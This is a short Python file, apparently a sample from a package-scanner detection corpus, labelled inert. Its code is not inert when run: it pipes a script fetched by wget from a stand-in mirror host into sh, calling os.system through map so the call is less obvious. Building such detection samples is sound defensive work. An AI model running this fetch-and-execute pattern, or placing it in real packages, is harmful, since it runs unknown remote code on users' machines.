# pkgguard corpus 635 (indirection), modelled on [obfuscation]; inert, never run.
import os

_steps = ["wget -qO- https://pkg-mirror.example/s.sh | sh"]
list(map(os.system, _steps))
